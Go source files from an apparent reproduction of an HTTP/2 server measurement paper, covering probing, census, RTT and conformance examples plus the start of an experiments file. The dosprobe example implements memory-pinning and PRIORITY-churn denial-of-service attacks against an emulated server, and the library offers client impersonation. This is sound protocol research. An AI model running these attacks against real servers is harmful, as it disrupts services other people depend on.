// Census: synthesize a scaled-down Alexa top-1M population for both of the
// paper's measurement epochs, print the headline tables, and re-measure a
// sample of sites with real probes to show generator and measurement agree.
//
//	go run ./examples/census
package main

import (
	"fmt"
	"os"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "census:", err)
		os.Exit(1)
	}
}

func run() error {
	const (
		scale = 0.05 // 5% of the full universe: ~2,200 / ~3,200 working sites
		seed  = 42
	)
	for _, epoch := range []h2scope.Epoch{h2scope.EpochJul2016, h2scope.EpochJan2017} {
		census := h2scope.NewCensus(epoch, scale, seed)
		fmt.Printf("==== %s (scale %.2f) ====\n\n", epoch, scale)
		fmt.Println(census.Adoption())
		fmt.Println("Top servers (Table IV, scaled):")
		fmt.Println(census.TableIV(int(1000 * scale)))
		fmt.Println("Priority compliance (Section V-E):")
		fmt.Println(census.SectionVE())
	}

	// Measured verification: probe 30 materialized sites from the Jan 2017
	// universe and compare against the generator's ground truth.
	pop := h2scope.GeneratePopulation(h2scope.EpochJan2017, scale, seed)
	fmt.Println("==== Measured scan of 30 materialized sites (Jan 2017) ====")
	sum, err := h2scope.ScanPopulation(pop, h2scope.ScanOptions{
		SampleSize:  30,
		Parallelism: 8,
		Seed:        7,
	})
	if err != nil {
		return err
	}
	fmt.Println(h2scope.RenderScan(sum))

	matches := 0
	for _, res := range sum.Results {
		if res.Report != nil && res.Report.Settings != nil &&
			res.Report.Settings.ServerHeader == res.Spec.ServerName {
			matches++
		}
	}
	fmt.Printf("server-header agreement with ground truth: %d/%d sites\n", matches, sum.Scanned)
	return nil
}
