// Pushload: the paper's Fig. 3 in miniature — page-load time on the
// push-capable sites of the first experiment, with server push enabled and
// disabled, over each site's latency-shaped path.
//
//	go run ./examples/pushload
package main

import (
	"fmt"
	"os"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "pushload:", err)
		os.Exit(1)
	}
}

func run() error {
	fmt.Println("Fig. 3 (miniature): PLT with push on/off, 5 visits per configuration")
	fmt.Println("(wall clock compressed 5x; reported PLTs are full scale)")
	fmt.Println()
	res, err := h2scope.RunPushPageLoad(h2scope.EpochJul2016, 5, 0.2, 3)
	if err != nil {
		return err
	}
	fmt.Println(res)
	fmt.Println("The paper's finding: enabling server push reduces page-load time in")
	fmt.Println("most cases — it saves the subresource request round trip.")
	return nil
}
