// RTT compare: the paper's Fig. 6 in miniature — estimate RTT to a handful
// of hosts using HTTP/2 PING, ICMP echo, TCP handshake timing, and HTTP/1.1
// request timing, over latency-shaped paths with known ground truth.
//
//	go run ./examples/rttcompare
package main

import (
	"fmt"
	"os"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "rttcompare:", err)
		os.Exit(1)
	}
}

func run() error {
	fmt.Println("Fig. 6 (miniature): RTT by four methods, 2 sites per family, 2 samples each")
	fmt.Println("(wall clock compressed 10x; reported RTTs are full scale)")
	fmt.Println()
	cmp, err := h2scope.RunRTTComparison(h2scope.EpochJan2017, 2, 2, 0.1, 9)
	if err != nil {
		return err
	}
	fmt.Println(h2scope.RenderRTTComparison(cmp))

	byMethod := cmp.ByMethod()
	mean := func(vals []float64) float64 {
		var sum float64
		for _, v := range vals {
			sum += v
		}
		return sum / float64(len(vals))
	}
	fmt.Println("Means:")
	for _, m := range []h2scope.RTTMethod{"h2-ping", "icmp", "tcp-rtt", "h1-request"} {
		fmt.Printf("  %-10s %.1f ms\n", m, mean(byMethod[m]))
	}
	fmt.Println("\nThe paper's finding: h2-ping tracks icmp and tcp-rtt closely, while")
	fmt.Println("h1-request runs longer because it includes server processing time.")
	return nil
}
