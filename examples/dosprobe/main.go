// Dosprobe: demonstrates the two denial-of-service angles the paper's
// Discussion section raises, against an emulated server:
//
//  1. A malicious receiver pins server memory by advertising a 1-byte
//     stream window and requesting large objects: the server must hold the
//     queued response bytes while trickling 1-byte DATA frames (the HTTP/2
//     analogue of the misbehaving-TCP-receiver attack the paper cites).
//
//  2. Reprioritization churn: a client can force the server to rebuild its
//     dependency tree with a stream of PRIORITY frames (an algorithmic-
//     complexity attack surface); the server must stay responsive.
//
//     go run ./examples/dosprobe
package main

import (
	"fmt"
	"os"
	"time"

	"h2scope"
	"h2scope/internal/frame"
	"h2scope/internal/netsim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "dosprobe:", err)
		os.Exit(1)
	}
}

func run() error {
	srv := h2scope.NewServer(h2scope.ApacheProfile(), h2scope.DefaultSite("victim.example"))
	l := netsim.NewListener("dosprobe")
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()

	if err := tinyWindowPin(l); err != nil {
		return err
	}
	return priorityChurn(l)
}

// tinyWindowPin requests N large objects under a 1-byte window and reports
// how many response bytes the server is forced to keep queued.
func tinyWindowPin(l *netsim.Listener) error {
	nc, err := l.Dial()
	if err != nil {
		return err
	}
	opts := h2scope.ClientOptions{
		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 1}},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
	c, err := h2scope.DialClient(nc, opts)
	if err != nil {
		return err
	}
	defer func() {
		_ = c.Close()
	}()

	const (
		streams    = 8
		objectSize = 96 * 1024
	)
	for i := 1; i <= streams; i++ {
		path := fmt.Sprintf("/large/%d", i)
		if _, err := c.OpenStream(h2scope.Request{Authority: "victim.example", Path: path}); err != nil {
			return err
		}
	}
	events := c.WaitQuiet(50*time.Millisecond, 2*time.Second)
	received := 0
	for _, e := range events {
		received += len(e.Data)
	}
	pinned := streams*objectSize - received
	fmt.Println("-- DoS angle 1: 1-byte window, large objects --")
	fmt.Printf("requested %d objects (%d KiB total), received %d bytes of DATA\n",
		streams, streams*objectSize/1024, received)
	fmt.Printf("=> the server is holding ~%d KiB of queued response data for one\n", pinned/1024)
	fmt.Println("   connection; a few thousand such connections exhaust its memory.")
	fmt.Println("   (Paper: Section V-D.1 / Discussion, the malicious-receiver attack.)")
	fmt.Println()
	return nil
}

// priorityChurn fires PRIORITY frames that keep reshaping the dependency
// tree, then checks the server still answers PING promptly.
func priorityChurn(l *netsim.Listener) error {
	nc, err := l.Dial()
	if err != nil {
		return err
	}
	c, err := h2scope.DialClient(nc, h2scope.DefaultClientOptions())
	if err != nil {
		return err
	}
	defer func() {
		_ = c.Close()
	}()

	const frames = 5000
	start := time.Now()
	for i := 0; i < frames; i++ {
		id := uint32(2*(i%64) + 1)
		dep := uint32(2*((i+13)%64) + 1)
		if dep == id {
			dep = 0
		}
		if err := c.WritePriority(id, frame.PriorityParam{
			StreamDep: dep,
			Exclusive: i%2 == 0,
			Weight:    uint8(i),
		}); err != nil {
			return err
		}
	}
	churn := time.Since(start)
	rtt, err := c.Ping([8]byte{'d', 'o', 's'}, 5*time.Second)
	if err != nil {
		return fmt.Errorf("server unresponsive after churn: %w", err)
	}
	fmt.Println("-- DoS angle 2: reprioritization churn --")
	fmt.Printf("sent %d PRIORITY frames (tree rebuilt each time) in %v\n", frames, churn)
	fmt.Printf("server still answers PING in %v — the tree operations are cheap here,\n", rtt)
	fmt.Println("   but the paper notes RFC 7540 puts no bound on this work.")
	return nil
}
