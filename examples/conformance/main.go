// Conformance: re-measure the paper's Table III — the full H2Scope battery
// against the six emulated server implementations (Nginx, LiteSpeed, H2O,
// nghttpd, Tengine, Apache) — and print the matrix.
//
//	go run ./examples/conformance
package main

import (
	"fmt"
	"os"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "conformance:", err)
		os.Exit(1)
	}
}

func run() error {
	fmt.Println("Characterizing the six-server testbed (Table III)...")
	res, err := h2scope.RunTestbed()
	if err != nil {
		return err
	}
	fmt.Println()
	fmt.Print(res)

	// Highlight the RFC 7540 deviations the paper calls out.
	fmt.Println("\nNotable deviations from RFC 7540:")
	for i, report := range res.Reports {
		family := res.Families[i]
		if report.FlowControlOnHeaders() {
			fmt.Printf("  %s applies flow control to HEADERS frames (RFC 7540 covers DATA only)\n", family)
		}
		if report.ZeroWU != nil && report.ZeroWU.Stream == h2scope.ObserveIgnore {
			fmt.Printf("  %s ignores zero WINDOW_UPDATE on streams (RFC calls for RST_STREAM)\n", family)
		}
		if report.ZeroWU != nil && report.ZeroWU.Stream == h2scope.ObserveGoAway {
			fmt.Printf("  %s escalates a stream-level zero WINDOW_UPDATE to GOAWAY\n", family)
		}
		if report.SelfDep != nil && report.SelfDep.Reaction != h2scope.ObserveRSTStream {
			fmt.Printf("  %s answers self-dependent streams with %v (RFC calls for RST_STREAM)\n",
				family, report.SelfDep.Reaction)
		}
		if report.HeaderCompressionVerdict() == "support*" {
			fmt.Printf("  %s never indexes response headers (HPACK ratio r = %.2f)\n",
				family, report.HPACK.Ratio)
		}
	}
	return nil
}
