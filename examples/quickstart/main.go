// Quickstart: start an emulated HTTP/2 server in-process, fetch a page over
// a raw-frame client connection, then run one H2Scope probe against it.
//
//	go run ./examples/quickstart
package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"time"

	"h2scope"
	"h2scope/internal/netsim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}
}

func run() error {
	// 1. An H2O-like server (push-capable, priority-scheduling) serving the
	// default testbed document tree, over an in-memory listener. Swap in
	// net.Listen("tcp", ...) for a real socket.
	srv := h2scope.NewServer(h2scope.H2OProfile(), h2scope.DefaultSite("quickstart.example"))
	l := netsim.NewListener("quickstart")
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()

	// 2. Fetch the front page with the raw-frame client.
	nc, err := l.Dial()
	if err != nil {
		return err
	}
	c, err := h2scope.DialClient(nc, h2scope.DefaultClientOptions())
	if err != nil {
		return err
	}
	defer func() {
		_ = c.Close()
	}()
	resp, err := c.FetchBody(h2scope.Request{Authority: "quickstart.example", Path: "/"}, 5*time.Second)
	if err != nil {
		return err
	}
	fmt.Printf("GET / -> %s, %d body bytes, server %q\n",
		resp.Status(), len(resp.Body), resp.Header("server"))

	// The server pushed the page's subresources: list the promises.
	for _, e := range c.Events() {
		if e.PromiseID != 0 {
			for _, hf := range e.Headers {
				if hf.Name == ":path" {
					fmt.Printf("pushed: %s (stream %d)\n", hf.Value, e.PromiseID)
				}
			}
		}
	}

	// 3. Run one probe from the paper's battery: the HPACK compression
	// ratio (Section III-E).
	prober := h2scope.NewProber(
		h2scope.DialerFunc(func() (net.Conn, error) { return l.Dial() }),
		h2scope.DefaultProbeConfig("quickstart.example"))
	hp, err := prober.ProbeHPACK(context.Background())
	if err != nil {
		return err
	}
	fmt.Printf("HPACK ratio over %d identical requests: r = %.3f (block sizes %v)\n",
		hp.Requests, hp.Ratio, hp.BlockSizes)
	return nil
}
