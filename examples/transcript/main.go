// Transcript: dump a frame-level transcript of an HTTP/2 exchange — the
// reproduction's equivalent of the wire captures used to validate H2Scope
// against open-source servers (Section V-A). The exchange shown is a
// push-enabled page fetch followed by a deliberately illegal zero
// WINDOW_UPDATE, so both normal traffic and an error reaction appear.
//
//	go run ./examples/transcript
package main

import (
	"fmt"
	"os"
	"time"

	"h2scope"
	"h2scope/internal/h2conn"
	"h2scope/internal/netsim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "transcript:", err)
		os.Exit(1)
	}
}

func run() error {
	srv := h2scope.NewServer(h2scope.NghttpdProfile(), h2scope.DefaultSite("wire.example"))
	l := netsim.NewListener("transcript")
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()

	nc, err := l.Dial()
	if err != nil {
		return err
	}
	c, err := h2scope.DialClient(nc, h2scope.DefaultClientOptions())
	if err != nil {
		return err
	}
	defer func() {
		_ = c.Close()
	}()

	if _, err := c.FetchBody(h2scope.Request{Authority: "wire.example", Path: "/"}, 5*time.Second); err != nil {
		return err
	}
	// Provoke the server: nghttpd answers a zero WINDOW_UPDATE with GOAWAY.
	id := c.NextStreamID()
	if err := c.OpenStreamID(id, h2scope.Request{Authority: "wire.example", Path: "/about.html"}); err != nil {
		return err
	}
	if err := c.WriteWindowUpdate(id, 0); err != nil {
		return err
	}
	events := c.WaitQuiet(30*time.Millisecond, 2*time.Second)

	fmt.Println("frame transcript (server → client):")
	fmt.Print(h2conn.FormatEvents(events))
	return nil
}
