// Package h2scope is a from-scratch reproduction of "Are HTTP/2 Servers
// Ready Yet?" (Jiang, Luo, Miu, Hu, Rao — ICDCS 2017): the H2Scope probing
// tool, a complete HTTP/2 server with per-implementation behavior profiles
// standing in for the paper's six-server testbed, and a synthetic Alexa
// top-1M population reproducing both of the paper's measurement campaigns.
//
// The package is a facade: it re-exports the stable surface of the internal
// packages and provides one runner per table and figure of the paper's
// evaluation (see experiments.go). Typical uses:
//
//	// Probe any HTTP/2 endpoint with the full Section III battery.
//	report, err := h2scope.Probe(dialer, h2scope.DefaultProbeConfig("example.org"))
//
//	// Re-measure the paper's Table III against the six emulated servers.
//	res, err := h2scope.RunTestbed()
//	fmt.Println(res)
//
//	// Synthesize the Jan 2017 Alexa population and print Table V.
//	census := h2scope.NewCensus(h2scope.EpochJan2017, 1.0, 42)
//	fmt.Println(census.TableV())
package h2scope

import (
	"io"
	"net"
	"time"

	"h2scope/internal/core"
	"h2scope/internal/fingerprint"
	"h2scope/internal/h2conn"
	"h2scope/internal/metrics"
	"h2scope/internal/obs"
	"h2scope/internal/population"
	"h2scope/internal/scan"
	"h2scope/internal/server"
	"h2scope/internal/store"
)

// Re-exported core types. Aliases keep the internal packages as the single
// implementation while giving downstream users one import.
type (
	// Profile enumerates every externally visible server behavior the
	// paper measures (Table III columns and the population's long tail).
	Profile = server.Profile
	// Site is a virtual web site: a domain plus its document tree.
	Site = server.Site
	// Resource is one servable web object.
	Resource = server.Resource
	// Server is an HTTP/2 origin server driven by a Profile.
	Server = server.Server
	// Reaction is how a server answers a protocol violation.
	Reaction = server.Reaction
	// SchedulingMode selects how a server orders DATA across streams.
	SchedulingMode = server.SchedulingMode

	// Report is a full H2Scope probe battery result (a Table III column).
	Report = core.Report
	// ProbeConfig parameterizes a probe battery.
	ProbeConfig = core.Config
	// Observation classifies a server's reaction to a probe.
	Observation = core.Observation
	// Dialer opens transport connections to a probe target.
	Dialer = core.Dialer
	// DialerFunc adapts a function to Dialer.
	DialerFunc = core.DialerFunc

	// Epoch selects one of the paper's two measurement campaigns.
	Epoch = population.Epoch
	// Population is a synthesized Alexa top-1M universe.
	Population = population.Population
	// SiteSpec is one synthesized site.
	SiteSpec = population.SiteSpec
	// ScanSummary aggregates measured probe results over a scanned sample.
	ScanSummary = population.ScanSummary

	// ScanStats is the scan engine's counter snapshot (attempted,
	// succeeded, failed-by-kind, retries, latency histogram summary).
	ScanStats = scan.Stats
	// ScanErrorKind classifies a probe failure (dial, TLS, protocol,
	// timeout, canceled); only transient kinds are retried.
	ScanErrorKind = scan.ErrorKind
	// ScanOutcome is a target's final disposition (ok/failed/canceled).
	ScanOutcome = scan.Outcome
	// ScanEngineRecord is the engine's typed per-target result.
	ScanEngineRecord = scan.Record

	// ClientConn is the raw-frame HTTP/2 client connection probes run on.
	ClientConn = h2conn.Conn
	// ClientOptions configures a ClientConn.
	ClientOptions = h2conn.Options
	// Request describes one HTTP/2 request.
	Request = h2conn.Request
	// Response aggregates one stream's response events.
	Response = h2conn.Response

	// ClientProfile describes a real client's wire fingerprint, used for
	// impersonation (ClientOptions.Impersonate) and as the expected value
	// a fingerprinting server should read back.
	ClientProfile = fingerprint.ClientProfile
	// FingerprintEcho is the /fp endpoint's response document.
	FingerprintEcho = fingerprint.Echo
	// FingerprintCensus is the impersonation-sweep verdict for one site.
	FingerprintCensus = fingerprint.CensusResult
)

// ClientProfiles returns the builtin impersonation catalog (curl, chrome,
// firefox, go).
func ClientProfiles() []*ClientProfile { return fingerprint.BuiltinProfiles() }

// ClientProfileByName resolves an impersonation profile case-insensitively.
func ClientProfileByName(name string) (*ClientProfile, error) {
	return fingerprint.ProfileByName(name)
}

// Re-exported enumerations.
const (
	EpochJul2016 = population.EpochJul2016
	EpochJan2017 = population.EpochJan2017

	ReactIgnore    = server.ReactIgnore
	ReactRSTStream = server.ReactRSTStream
	ReactGoAway    = server.ReactGoAway

	SchedRoundRobin        = server.SchedRoundRobin
	SchedPriority          = server.SchedPriority
	SchedPriorityLastOnly  = server.SchedPriorityLastOnly
	SchedPriorityFirstOnly = server.SchedPriorityFirstOnly

	ObserveIgnore     = core.ObserveIgnore
	ObserveRSTStream  = core.ObserveRSTStream
	ObserveGoAway     = core.ObserveGoAway
	ObserveNoResponse = core.ObserveNoResponse

	ScanOutcomeSuccess  = scan.OutcomeSuccess
	ScanOutcomeFailed   = scan.OutcomeFailed
	ScanOutcomeCanceled = scan.OutcomeCanceled

	ScanKindDial     = scan.KindDial
	ScanKindTLS      = scan.KindTLS
	ScanKindProtocol = scan.KindProtocol
	ScanKindTimeout  = scan.KindTimeout
	ScanKindCanceled = scan.KindCanceled
)

// NginxProfile reproduces Nginx v1.9.15 as characterized in Table III.
func NginxProfile() Profile { return server.NginxProfile() }

// LiteSpeedProfile reproduces LiteSpeed v5.0.11.
func LiteSpeedProfile() Profile { return server.LiteSpeedProfile() }

// H2OProfile reproduces H2O v1.6.2.
func H2OProfile() Profile { return server.H2OProfile() }

// NghttpdProfile reproduces nghttpd v1.12.0.
func NghttpdProfile() Profile { return server.NghttpdProfile() }

// TengineProfile reproduces Tengine v2.1.2.
func TengineProfile() Profile { return server.TengineProfile() }

// ApacheProfile reproduces Apache httpd v2.4.23 with mod_http2.
func ApacheProfile() Profile { return server.ApacheProfile() }

// TestbedProfiles returns the six profiles in Table III column order.
func TestbedProfiles() []Profile { return server.TestbedProfiles() }

// NewServer returns an HTTP/2 server for site with the given profile.
func NewServer(p Profile, site *Site) *Server { return server.New(p, site) }

// NewSite returns an empty site for domain.
func NewSite(domain string) *Site { return server.NewSite(domain) }

// DefaultSite builds the testbed document tree (front page, subresources,
// large objects for the multiplexing and priority probes).
func DefaultSite(domain string) *Site { return server.DefaultSite(domain) }

// DefaultProbeConfig returns a probe configuration matched to DefaultSite.
func DefaultProbeConfig(authority string) ProbeConfig { return core.DefaultConfig(authority) }

// TableIIIChecks returns the check names of the paper's Table III, in row
// order, matching Report.TableIIIRow.
func TableIIIChecks() []string {
	return append([]string(nil), core.TableIIIRowNames...)
}

// Probe runs the full H2Scope battery (Section III) against a target.
func Probe(d Dialer, cfg ProbeConfig) (*Report, error) {
	return core.NewProber(d, cfg).Run()
}

// NewProber returns a prober exposing the individual Section III probes.
func NewProber(d Dialer, cfg ProbeConfig) *core.Prober {
	return core.NewProber(d, cfg)
}

// DialClient establishes a raw-frame HTTP/2 client connection over nc.
func DialClient(nc net.Conn, opts ClientOptions) (*ClientConn, error) {
	return h2conn.Dial(nc, opts)
}

// DefaultClientOptions returns the options a well-behaved client would use.
func DefaultClientOptions() ClientOptions { return h2conn.DefaultOptions() }

// GeneratePopulation synthesizes one epoch's Alexa top-1M universe at the
// given scale (1.0 reproduces the full working set) and seed.
func GeneratePopulation(epoch Epoch, scale float64, seed int64) *Population {
	return population.Generate(epoch, scale, seed)
}

// ScanPopulation materializes a sample of the population as live servers
// and re-measures it with the probe battery.
func ScanPopulation(pop *Population, opts population.ScanOptions) (*ScanSummary, error) {
	return population.Scan(pop, opts)
}

// ScanOptions configures ScanPopulation.
type ScanOptions = population.ScanOptions

// ScanRecord is one persisted per-site scan result (Section IV-B's
// "store ... into a database" equivalent; JSON-lines on disk).
type ScanRecord = store.Record

// WriteScanRecords persists a measured scan's per-site reports to w as
// JSON lines, including each site's engine outcome (failed probes keep
// their classified error kind and attempt count).
func WriteScanRecords(w io.Writer, epoch Epoch, scannedAt time.Time, sum *ScanSummary) error {
	sw := store.NewWriter(w)
	for _, res := range sum.Results {
		serverName := ""
		if res.Report != nil && res.Report.Settings != nil {
			serverName = res.Report.Settings.ServerHeader
		}
		rec := &store.Record{
			Domain:      res.Spec.Domain,
			Epoch:       epoch.String(),
			ServerName:  serverName,
			ScannedAt:   scannedAt,
			Report:      res.Report,
			Outcome:     res.Outcome.String(),
			ErrorKind:   res.Kind.String(),
			Error:       res.Err,
			Attempts:    res.Attempts,
			TraceFile:   res.TraceFile,
			Robustness:  res.Robustness,
			Fingerprint: res.Fingerprint,
		}
		if res.Outcome == scan.OutcomeSuccess {
			rec.ErrorKind = ""
		}
		if err := sw.Append(rec); err != nil {
			return err
		}
	}
	return sw.Flush()
}

// AppendScanStats appends a scan-summary trailer record (the engine's final
// ScanStats snapshot, plus an optional metrics-registry snapshot) to a
// JSON-lines record stream. Offline analysis reports trailers separately
// from per-site records.
func AppendScanStats(w io.Writer, epoch Epoch, scannedAt time.Time, stats ScanStats, snaps []MetricSnapshot) error {
	sw := store.NewWriter(w)
	if err := sw.Append(&store.Record{
		Epoch:     epoch.String(),
		ScannedAt: scannedAt,
		Stats:     &stats,
		Metrics:   snaps,
	}); err != nil {
		return err
	}
	return sw.Flush()
}

// Metrics & profiling surface. A MetricsRegistry plugs into
// ScanOptions.Metrics, ProbeConfig.Metrics (via NewConnMetrics), and the
// debug endpoint.
type (
	// MetricsRegistry is a named set of live instruments.
	MetricsRegistry = metrics.Registry
	// MetricSnapshot is one instrument's point-in-time reading, as served
	// by the /metrics.json endpoint and embedded in scan stats trailers.
	MetricSnapshot = metrics.MetricSnapshot
	// DebugServer is a live observability endpoint: Prometheus-text and
	// JSON metrics, expvar, and net/http/pprof.
	DebugServer = metrics.DebugServer
)

// NewMetricsRegistry returns an empty metrics registry.
func NewMetricsRegistry() *MetricsRegistry { return metrics.NewRegistry() }

// Causal-observability surface (internal/obs): phase spans derived from the
// trace bus, the anomaly flight recorder, and the live run dashboard.
type (
	// ObsMonitor folds reconstructed phase spans into per-phase latency
	// histograms with slow-sample exemplars and anomaly detection; plug it
	// into ScanOptions.Observer.
	ObsMonitor = obs.Monitor
	// ObsMonitorConfig configures an ObsMonitor.
	ObsMonitorConfig = obs.MonitorConfig
	// ObsAnomaly is one trigger-worthy observation (p99 blowout, error
	// spike, detector hit).
	ObsAnomaly = obs.Anomaly
	// FlightRecorder turns anomalies into bounded JSONL forensic dumps.
	FlightRecorder = obs.FlightRecorder
	// FlightRecorderConfig configures a FlightRecorder.
	FlightRecorderConfig = obs.FlightRecorderConfig
	// ObsDashboard is the live run dashboard handler (HTML + JSON API).
	ObsDashboard = obs.Dashboard
	// ConnPhases is one connection's reconstructed causal span.
	ConnPhases = obs.ConnPhases
)

// NewObsMonitor builds a span monitor (see ObsMonitorConfig).
func NewObsMonitor(cfg ObsMonitorConfig) *ObsMonitor { return obs.NewMonitor(cfg) }

// NewFlightRecorder builds an anomaly flight recorder writing into
// cfg.Dir.
func NewFlightRecorder(cfg FlightRecorderConfig) (*FlightRecorder, error) {
	return obs.NewFlightRecorder(cfg)
}

// NewObsDashboard builds the live dashboard handler over the given
// registries; mount it on a DebugServer with Handle("/dashboard", d) (and
// "/dashboard.json" for the API).
func NewObsDashboard(title string, m *ObsMonitor, fr *FlightRecorder, regs ...*MetricsRegistry) *ObsDashboard {
	return obs.NewDashboard(title, m, fr, regs...)
}

// BuildConnPhases reconstructs per-connection causal spans from a trace
// event stream (see internal/obs).
var BuildConnPhases = obs.BuildConns

// ObsPhases lists the causal span phases in order (dial ... close).
var ObsPhases = obs.Phases

// StartDebugServer serves /metrics, /metrics.json, /debug/vars, and
// /debug/pprof/* for the given registries on addr (":0" picks a port; see
// DebugServer.Addr). A runtime sampler feeding Go heap/GC/goroutine gauges
// into the first registry runs until Close.
func StartDebugServer(addr string, regs ...*MetricsRegistry) (*DebugServer, error) {
	return metrics.StartDebug(addr, regs...)
}

// RenderMetricsTable formats a registry snapshot as an aligned
// human-readable table.
func RenderMetricsTable(snaps []MetricSnapshot) string { return metrics.RenderTable(snaps) }

// ConnMetrics is the pre-built client-connection instrument set; attach it
// through ProbeConfig.Metrics or ClientOptions.Metrics.
type ConnMetrics = h2conn.Metrics

// NewConnMetrics registers the client-connection instrument set
// (h2_conn_*, h2_frames_*) in r.
func NewConnMetrics(r *MetricsRegistry) *ConnMetrics { return h2conn.NewMetrics(r) }

// ReadScanRecords loads persisted scan records.
func ReadScanRecords(r io.Reader) ([]ScanRecord, error) {
	return store.Read(r)
}

// SummarizeScanRecords aggregates persisted records offline.
func SummarizeScanRecords(records []ScanRecord) *store.Summary {
	return store.Summarize(records)
}

// AnalyzeScanRecords re-derives the census aggregates from persisted
// records — the offline counterpart of a live scan summary.
func AnalyzeScanRecords(records []ScanRecord) *store.Analysis {
	return store.Analyze(records)
}
