package h2scope

import (
	"context"
	"fmt"
	"math/rand"
	"net"
	"sort"
	"strings"
	"time"

	"h2scope/internal/core"
	"h2scope/internal/netsim"
	"h2scope/internal/pageload"
	"h2scope/internal/population"
	"h2scope/internal/rtt"
	"h2scope/internal/scan"
	"h2scope/internal/stats"
)

// This file provides one runner per table and figure of the paper's
// evaluation (Section V). Each runner returns structured results plus a
// String rendering, and is what cmd/ tools and the root benchmarks invoke.

// --- Table III: the six-server testbed ---

// TestbedResult is the re-measured Table III.
type TestbedResult struct {
	// Families are the column labels in the paper's order.
	Families []string
	// Checks are the row labels (TableIIIRowNames).
	Checks []string
	// Cells is indexed [check][family].
	Cells [][]string
	// Reports holds the raw per-server batteries.
	Reports []*Report
}

// RunTestbed characterizes the six emulated servers with the full probe
// battery, reproducing Table III.
func RunTestbed() (*TestbedResult, error) {
	profiles := TestbedProfiles()
	res := &TestbedResult{
		Checks:  core.TableIIIRowNames,
		Reports: make([]*Report, len(profiles)),
	}
	targets := make([]scan.Target, len(profiles))
	for i, p := range profiles {
		res.Families = append(res.Families, p.Family)
		targets[i] = scan.Target{Key: p.Family, Meta: p}
	}
	engineRes, err := scan.Run(context.Background(), targets,
		func(ctx context.Context, t scan.Target) (any, error) {
			return probeProfile(ctx, t.Meta.(Profile))
		},
		scan.Options{
			Parallelism: len(profiles),
			Timeout:     time.Minute,
			Retries:     1,
		})
	if err != nil {
		return nil, err
	}
	for i, rec := range engineRes.Records {
		if rec.Outcome != scan.OutcomeSuccess {
			return nil, fmt.Errorf("h2scope: testbed %s: %s failure after %d attempt(s): %s",
				profiles[i].Family, rec.Kind, rec.Attempts, rec.Err)
		}
		res.Reports[i] = rec.Value.(*Report)
	}
	res.Cells = make([][]string, len(res.Checks))
	for r := range res.Checks {
		res.Cells[r] = make([]string, len(profiles))
	}
	for c, report := range res.Reports {
		col := report.TableIIIRow()
		for r := range res.Checks {
			res.Cells[r][c] = col[r]
		}
	}
	return res, nil
}

// probeProfile runs the battery against one profile served in-process. The
// testbed knows the profile's negotiation support directly, standing in for
// the TLS ALPN/NPN handshakes of Section IV-A.
func probeProfile(ctx context.Context, p Profile) (*Report, error) {
	srv := NewServer(p, DefaultSite("testbed.example"))
	l := netsim.NewListener(p.Family)
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()
	cfg := DefaultProbeConfig("testbed.example")
	cfg.QuietWindow = 20 * time.Millisecond
	return NewProber(&testbedDialer{l: l, p: p}, cfg).RunContext(ctx)
}

type testbedDialer struct {
	l *netsim.Listener
	p Profile
}

var (
	_ core.Dialer     = (*testbedDialer)(nil)
	_ core.Negotiator = (*testbedDialer)(nil)
)

// Dial implements Dialer.
func (d *testbedDialer) Dial() (net.Conn, error) { return d.l.Dial() }

// NegotiateALPN implements core.Negotiator from the profile's metadata.
func (d *testbedDialer) NegotiateALPN([]string) (string, error) {
	if !d.p.SupportsALPN {
		return "", fmt.Errorf("h2scope: %s does not negotiate ALPN", d.p.Family)
	}
	return "h2", nil
}

// NegotiateNPN implements core.Negotiator from the profile's metadata.
func (d *testbedDialer) NegotiateNPN() ([]string, error) {
	if !d.p.SupportsNPN {
		return nil, fmt.Errorf("h2scope: %s does not negotiate NPN", d.p.Family)
	}
	return []string{"h2", "http/1.1"}, nil
}

// String renders the matrix the way the paper's Table III does.
func (r *TestbedResult) String() string {
	headers := append([]string{"Check"}, r.Families...)
	rows := make([][]string, 0, len(r.Checks))
	for i, check := range r.Checks {
		rows = append(rows, append([]string{check}, r.Cells[i]...))
	}
	return stats.FormatTable(headers, rows)
}

// --- The population census: Tables IV-VII, Figs. 2/4/5, Sections V-B/D/E/F ---

// Census wraps a generated population with the paper's table renderings.
type Census struct {
	// Pop is the synthesized universe.
	Pop *Population
}

// NewCensus generates the population of an epoch and wraps it.
func NewCensus(epoch Epoch, scale float64, seed int64) *Census {
	return &Census{Pop: GeneratePopulation(epoch, scale, seed)}
}

// Adoption renders the Section V-B.1 counts.
func (c *Census) Adoption() string {
	npn, alpn, working := c.Pop.AdoptionCounts()
	return stats.FormatTable(
		[]string{"Metric", c.Pop.Epoch.String()},
		[][]string{
			{"Sites negotiating via NPN", fmt.Sprint(npn)},
			{"Sites negotiating via ALPN", fmt.Sprint(alpn)},
			{"Sites returning HEADERS", fmt.Sprint(working)},
			{"Distinct server kinds", fmt.Sprint(c.Pop.ServerKinds())},
		})
}

// TableIV renders the server-name distribution for names with at least
// minCount sites (the paper uses 1,000).
func (c *Census) TableIV(minCount int) string {
	rows := make([][]string, 0, 8)
	for _, nc := range c.Pop.ServerNameCounts(minCount) {
		rows = append(rows, []string{nc.Name, fmt.Sprint(nc.Count)})
	}
	return stats.FormatTable([]string{"Server name", "Num. of sites"}, rows)
}

// TableV renders the SETTINGS_INITIAL_WINDOW_SIZE distribution.
func (c *Census) TableV() string {
	return renderDist("SETTINGS_INITIAL_WINDOW_SIZE", c.Pop.InitialWindowTable())
}

// TableVI renders the SETTINGS_MAX_FRAME_SIZE distribution.
func (c *Census) TableVI() string {
